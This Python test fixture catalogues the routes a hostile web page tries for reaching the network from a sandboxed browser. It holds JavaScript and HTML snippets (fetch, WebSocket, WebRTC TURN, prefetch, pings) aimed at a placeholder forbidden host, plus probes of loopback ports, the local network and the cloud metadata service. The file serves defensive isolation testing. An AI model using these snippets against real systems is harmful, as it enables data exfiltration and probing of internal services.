"""What the hostile page tries, and how each route is told from the others."""

from __future__ import annotations

from dataclasses import dataclass

HOSTILE = "hostile.ilot.test"
FORBIDDEN = "interdit.exercice.test"


@dataclass(frozen=True, slots=True)
class Route:
    """One way out.

    Attributes:
        name: Also the first label of the host that it asks for.
        attempt: In one sentence.
        script: JavaScript of the page; WEB, SOCKET and HOST are its own address, PORT its own port.
        html: Or markup of the page.
        where: Which script runs it: `page`, `worker`, `shared` or `service`.
        number: Row of the break-out table.
        aims: `host:port` as the page writes it, where that is no name; the control
            leads it to PORT.
    """

    name: str
    attempt: str
    script: str = ""
    html: str = ""
    where: str = "page"
    number: int = 0
    aims: str = ""

    def written(self, port: int) -> str:
        """The script or markup with its own address in it."""
        host = f"{self.name}.{FORBIDDEN}"
        words = {"WEB": f"https://{host}", "SOCKET": f"wss://{host}", "HOST": host}
        text = self.script or self.html
        for word, meant in (words | {"PORT": str(port)}).items():
            text = text.replace(word, meant)
        return text


FETCH = "fetch('WEB/t', {mode: 'no-cors'}).catch(() => 0)"
SOCKET = "new WebSocket('SOCKET/t')"
FRAME = (
    "<iframe name={0} hidden></iframe><form id={0} method=post action='WEB/t' target={0}></form>"
)
PEER = (
    "const server = {urls: 'URL', username: 'a', credential: 'b'};"
    "const p = new RTCPeerConnection({iceServers: [server]});"
    "held.push(p); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))"
)
PLAIN_PICTURE = "held.push(Object.assign(new Image(), {src: 'http://HOST/t'}))"


def _inside(name: str, aims: str, attempt: str, number: int, scheme: str = "https") -> Route:
    script = f"fetch('{scheme}://{aims}/t', {{mode: 'no-cors'}}).catch(() => 0)"
    return Route(name, attempt, script, number=number, aims=aims)


ROUTES = (
    Route("fetch", "fetch from the page", FETCH, number=21),
    Route("xhr", "XMLHttpRequest", "const x = new XMLHttpRequest();"
          "x.open('GET', 'WEB/t'); x.send()", number=21),
    Route("fetch-after-302", "fetch of its own address that redirects", "fetch('/302/WEB/t',"
          "{mode: 'no-cors'}).catch(() => 0)", number=20),
    Route("beacon", "navigator.sendBeacon", "navigator.sendBeacon('WEB/t', 'd')", number=21),
    Route("eventsource", "EventSource", "held.push(new EventSource('WEB/t'))", number=21),
    Route("websocket", "WebSocket from the page", f"held.push({SOCKET})", number=21),
    Route("websocket-worker", "WebSocket from a worker", SOCKET, where="worker", number=21),
    Route("websocket-shared", "WebSocket from a shared worker", SOCKET, where="shared", number=21),
    Route("websocket-service", "WebSocket from a service worker", SOCKET, where="service",
          number=21),
    Route("fetch-worker", "fetch from a worker", FETCH, where="worker", number=21),
    Route("fetch-shared", "fetch from a shared worker", FETCH, where="shared", number=21),
    Route("fetch-service", "fetch from a service worker", FETCH, where="service", number=21),
    Route("iframe", "a frame", html="<iframe src='WEB/t'></iframe>", number=20),
    Route("iframe-after-302", "a frame of its own address that redirects",
          html="<iframe src='/302/WEB/t'></iframe>", number=20),
    Route("form", "a form that posts into a frame", "document.getElementById('fo').submit()",
          number=20),
    Route("img", "a picture", html="<img src='WEB/t'>"),
    Route("css-import", "a style sheet that imports", html="<style>@import 'WEB/t';</style>"),
    Route("css-font", "a font", html="<style>@font-face {font-family: f; src: url(WEB/t)}"
          "b {font-family: f}</style><b>b</b>"),
    Route("css-background", "a background picture", html="<i style='background:url(WEB/t)'>i</i>"),
    Route("script", "a script", html="<script async src='WEB/t'></script>"),
    Route("module", "import()", "import('WEB/t').catch(() => 0)"),
    Route("video", "a video", html="<video preload=auto src='WEB/t'></video>"),
    Route("audio", "a sound", html="<audio preload=auto src='WEB/t'></audio>"),
    Route("object", "an object", html="<object data='WEB/t'></object>"),
    Route("embed", "an embed", html="<embed src='WEB/t'>"),
    Route("prefetch", "link rel=prefetch", html="<link rel=prefetch href='WEB/t'>"),
    Route("preconnect", "link rel=preconnect", html="<link rel=preconnect href='WEB'>"),
    Route("modulepreload", "link rel=modulepreload", html="<link rel=modulepreload href='WEB/t'>"),
    Route("speculation", "speculation rules that prefetch", html="<script type=speculationrules>"
          '{"prefetch": [{"source": "list", "urls": ["WEB/t"]}]}</script>'),
    Route("webtransport", "WebTransport (QUIC)", "const w = new WebTransport('https://HOST:PORT/');"
          "held.push(w); w.ready.catch(() => 0); w.closed.catch(() => 0)", number=21),
    Route("stun-udp", "WebRTC STUN by UDP", PEER.replace("URL", "stun:127.0.0.1:PORT")),
    Route("turn-udp", "WebRTC TURN by UDP",
          PEER.replace("URL", "turn:127.0.0.1:PORT?transport=udp")),
    Route("turn-tcp", "WebRTC TURN by TCP", PEER.replace("URL", "turn:HOST:PORT?transport=tcp")),
    Route("ping", "a link's ping", "const a = Object.assign(document.createElement('a'),"
          "{href: '#x', ping: 'WEB/t'}); document.body.append(a); a.click()"),
    Route("csp-report", "CSP report-uri", html="<img src='data:,x'>"),
    Route("favicon", "the page's icon", html="<link rel=icon href='WEB/t'>"),
    Route("plain-http", "a picture by plain http", PLAIN_PICTURE),
    Route("other-port", "another port of the forbidden host",
          "fetch('https://HOST:PORT/t', {mode: 'no-cors'}).catch(() => 0)", number=22),
    _inside("loopback", "127.0.0.1", "this machine by its address", 22),
    _inside("loopback-ipv6", "[::1]", "this machine by its IPv6 address", 22),
    _inside("loopback-scan", "127.0.0.1:8080", "another port of this machine", 22, "http"),
    _inside("localhost", "localhost:3000", "this machine by its name", 22, "http"),
    _inside("lan", "10.0.0.1", "the local network", 22),
    _inside("metadata", "169.254.169.254", "the cloud's metadata service", 22),
    _inside("cups", "127.0.0.1:631", "the print service", 25, "http"),
    _inside("saned", "127.0.0.1:6566", "the scan service", 25, "http"),
    _inside("printer", "192.168.1.9", "the printer's own page", 25),
)  # fmt: skip
BY_PORT = frozenset(
    {"webtransport", "stun-udp", "turn-udp", "turn-tcp", "other-port"}
    | {route.name for route in ROUTES if route.aims}
)
"""Routes that are known by a port of their own."""
